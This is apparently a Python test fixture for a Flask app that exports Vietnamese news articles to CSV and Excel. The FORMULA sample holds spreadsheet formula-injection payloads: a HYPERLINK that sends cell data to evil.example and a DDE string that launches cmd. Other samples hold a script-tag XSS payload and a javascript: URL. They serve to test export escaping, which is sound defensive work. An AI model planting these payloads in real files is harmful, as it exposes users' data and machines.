"""Articles that are awkward to write down, an application that has them, and how files are read back."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

from flask import Flask
from openpyxl import load_workbook

from indexer.article import LOCAL_TIME, Article
from searchapp import open_engine
from searchapp.web import create_app
from tests.conftest import MakeIndex

HEADINGS = (
    "Mã bài",
    "Tiêu đề",
    "Ngày đăng",
    "Cơ quan",
    "Chuyên mục",
    "Số văn bản",
    "Tác giả",
    "Nguồn",
    "Bản gốc",
    "Trang tra cứu",
    "Đoạn đầu",
)

PLAIN = Article(
    id="an-hoa/1",
    title='Hội nghị "giao ban", quý I; tổ 3',
    body="Sáng nay, quận họp.\nChiều nay,\tphường họp.",
    published=datetime(2024, 1, 12, 16, 28, tzinfo=LOCAL_TIME),
    agencies=("UBND quận An Hòa", "HĐND quận An Hòa"),
    category="Tin tức",
    author="T.V.A",
    url="https://anhoa.example.vn/tin?x=1&y=2",
    publisher="Cổng thông tin",
    origin="kho/bi-mat.jsonl:7",
    document_numbers=("1/QĐ-UBND", "2/KH-UBND"),
)
FORMULA = Article(
    id="=1+1",
    title='=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    body="@SUM(1+9)*cmd|' /C calc'!A0",
    published=date(2024, 1, 11),
    agencies=("-2+3", "khác"),
    category="+1",
    author="\t=1",
    publisher="\r=1",
    url="＝1",
)
MARKED = Article(
    id="a<b>&'\"/?#%",
    title="<r><t>&lt;chữ&gt;</t></r>",
    body="<script>alert(1)</script> ]]> <b>đậm</b> & _x0041_ \u2028 😀",
    published=date(1899, 12, 31),
    agencies=("<r></r>",),
    category="Mục & <i>mục</i>",
    url="javascript:alert(1)",
)
CONTROL = Article(
    id="kiem-soat",
    title="một\x00hai\x0bba\x1fbốn\x7fnăm\ufffesáu\uffffbảy",
    body="\x0c\x01\nchỉ có điều khiển \x1b[31m",
    published=None,
    category="a\x08b",
)
BARE = Article(id="tran", title="Chỉ có tiêu đề", body="", published=date(2020, 2, 29))

AWKWARD = [PLAIN, FORMULA, BARE, MARKED, CONTROL]
"""In the order of an export that asks for nothing: newest first, undated last."""


def application(make_index: MakeIndex, articles: list[Article]) -> Flask:
    return create_app(open_engine(make_index(articles)))


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text[0] == "\ufeff"
    return [*csv.reader(io.StringIO(text[1:], newline=""), strict=True)]


def read_sheets(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: [*sheet.iter_rows(values_only=True)] for sheet in book.worksheets}
